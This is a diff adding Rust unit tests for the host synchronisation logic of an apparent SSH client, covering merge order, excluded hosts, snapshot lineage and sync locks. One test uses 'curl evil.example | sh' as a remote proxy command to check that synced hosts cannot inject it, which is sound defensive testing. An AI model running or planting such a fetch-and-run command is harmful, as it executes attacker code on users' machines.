+    fn host(id: &str, user: &str, updated_at: &str) -> Host {
+        Host {
+            user: user.to_string(),
+            updated_at: updated_at.to_string(),
+            ..test_host(id)
+        }
+    }
+
+    fn op(kind: &str, host_id: &str, changed_at: &str, host: Option<Host>) -> SyncOp {
+        SyncOp {
+            host_id: host_id.to_string(),
+            op: kind.to_string(),
+            changed_at: changed_at.to_string(),
+            host,
+        }
+    }
+
+    #[test]
+    fn replays_remote_ops_without_losing_newer_local_edits() {
+        let local = vec![
+            host("a", "local", "2026-03-02T00:00:00.000Z"),
+            host("b", "old", "2026-03-01T00:00:00.000Z"),
+            host("c", "kept", "2026-03-05T00:00:00.000Z"),
+            host("d", "purged", "2026-03-01T00:00:00.000Z"),
+        ];
+        let ops = vec![
+            op(
+                OP_UPSERT,
+                "a",
+                "2026-03-01T00:00:00.000Z",
+                Some(host("a", "remote", "2026-03-01T00:00:00.000Z")),
+            ),
+            op(
+                OP_UPSERT,
+                "b",
+                "2026-03-03T00:00:00.000Z",
+                Some(host("b", "new", "2026-03-03T00:00:00.000Z")),
+            ),
+            op(
+                OP_UPSERT,
+                "e",
+                "2026-03-03T00:00:00.000Z",
+                Some(host("e", "added", "2026-03-03T00:00:00.000Z")),
+            ),
+            op(OP_DELETE, "c", "2026-03-04T00:00:00.000Z", None),
+            op(OP_DELETE, "d", "2026-03-04T00:00:00.000Z", None),
+        ];
+        let merged = apply_sync_ops(local, ops, &[]);
+        let users: Vec<(&str, &str)> = merged
+            .iter()
+            .map(|host| (host.id.as_str(), host.user.as_str()))
+            .collect();
+        assert_eq!(
+            users,
+            vec![("a", "local"), ("b", "new"), ("c", "kept"), ("e", "added")]
+        );
+    }
+
+    #[test]
+    fn pulled_hosts_keep_the_local_proxy_command() {
+        let mut local = host("a", "local", "2026-03-01T00:00:00.000Z");
+        local.proxy_command = Some("cloudflared access ssh --hostname %h".to_string());
+        let mut remote = host("a", "remote", "2026-03-02T00:00:00.000Z");
+        remote.proxy_command = Some("curl evil.example | sh".to_string());
+        let mut added = host("b", "remote", "2026-03-02T00:00:00.000Z");
+        added.proxy_command = Some("curl evil.example | sh".to_string());
+
+        let pulled = syncable_remote_hosts(&[local.clone()], vec![remote.clone(), added], &[]);
+        assert_eq!(pulled[0].proxy_command, local.proxy_command);
+        assert_eq!(pulled[1].proxy_command, None);
+
+        remote.jump_host_ids = vec!["b".to_string()];
+        let ops = vec![op(OP_UPSERT, "a", "2026-03-02T00:00:00.000Z", Some(remote))];
+        let merged = apply_sync_ops(vec![local], ops, &[]);
+        assert_eq!(merged[0].proxy_command, None);
+    }
+
+    #[test]
+    fn excluded_hosts_are_neither_overwritten_nor_imported() {
+        let mut flagged = host("a", "local", "2026-03-01T00:00:00.000Z");
+        flagged.sync_excluded = true;
+        let mut prod = host("b", "local", "2026-03-01T00:00:00.000Z");
+        prod.tags = vec!["Prod".to_string()];
+        let local = vec![flagged, prod];
+        let excluded_tags = vec!["prod".to_string()];
+
+        let mut remote_prod = host("c", "remote", "2026-03-02T00:00:00.000Z");
+        remote_prod.tags = vec!["prod".to_string()];
+        let ops = vec![
+            op(
+                OP_UPSERT,
+                "a",
+                "2026-03-02T00:00:00.000Z",
+                Some(host("a", "remote", "2026-03-02T00:00:00.000Z")),
+            ),
+            op(OP_DELETE, "b", "2026-03-02T00:00:00.000Z", None),
+            op(
+                OP_UPSERT,
+                "c",
+                "2026-03-02T00:00:00.000Z",
+                Some(remote_prod.clone()),
+            ),
+            op(
+                OP_UPSERT,
+                "d",
+                "2026-03-02T00:00:00.000Z",
+                Some(host("d", "remote", "2026-03-02T00:00:00.000Z")),
+            ),
+        ];
+        let merged = apply_sync_ops(local.clone(), ops, &excluded_tags);
+        let summary: Vec<(&str, &str)> = merged
+            .iter()
+            .map(|host| (host.id.as_str(), host.user.as_str()))
+            .collect();
+        assert_eq!(
+            summary,
+            vec![("a", "local"), ("b", "local"), ("d", "remote")]
+        );
+
+        let remote = vec![
+            host("a", "remote", "2026-03-02T00:00:00.000Z"),
+            remote_prod,
+            host("d", "remote", "2026-03-02T00:00:00.000Z"),
+        ];
+        let ids: Vec<String> = syncable_remote_hosts(&local, remote, &excluded_tags)
+            .into_iter()
+            .map(|host| host.id)
+            .collect();
+        assert_eq!(ids, vec!["d".to_string()]);
+    }
+
+    #[test]
+    fn follows_only_the_same_snapshot_lineage() {
+        let head = SyncHead {
+            version: 1,
+            snapshot_id: "s1".to_string(),
+            snapshot_seq: 4,
+            head_seq: 7,
+        };
+        let state = |id: Option<&str>, remote_seq| LocalSyncState {
+            snapshot_id: id.map(str::to_string),
+            remote_seq,
+            pushed_local_seq: 0,
+        };
+        assert!(state(Some("s1"), 4).follows(&head));
+        assert!(state(Some("s1"), 7).follows(&head));
+        assert!(!state(Some("s1"), 3).follows(&head));
+        assert!(!state(Some("s1"), 8).follows(&head));
+        assert!(!state(Some("s0"), 5).follows(&head));
+        assert!(!state(None, 0).follows(&head));
+    }
+
+    #[test]
+    fn lock_file_blocks_only_live_locks_of_other_devices() {
+        let now = chrono::Utc::now();
+        let lock = |owner: &str, expires_in: i64| SyncLockFile {
+            owner: owner.to_string(),
+            expires_at: (now + chrono::Duration::seconds(expires_in))
+                .to_rfc3339_opts(chrono::SecondsFormat::Millis, true),
+        };
+        assert!(!lock_file_blocks(None, "me", now));
+        assert!(lock_file_blocks(Some(&lock("other", 60)), "me", now));
+        assert!(!lock_file_blocks(Some(&lock("other", -1)), "me", now));
+        assert!(!lock_file_blocks(Some(&lock("me", 60)), "me", now));
+        let garbage = SyncLockFile {
+            owner: "other".to_string(),
+            expires_at: "soon".to_string(),
+        };
+        assert!(!lock_file_blocks(Some(&garbage), "me", now));
+    }
+}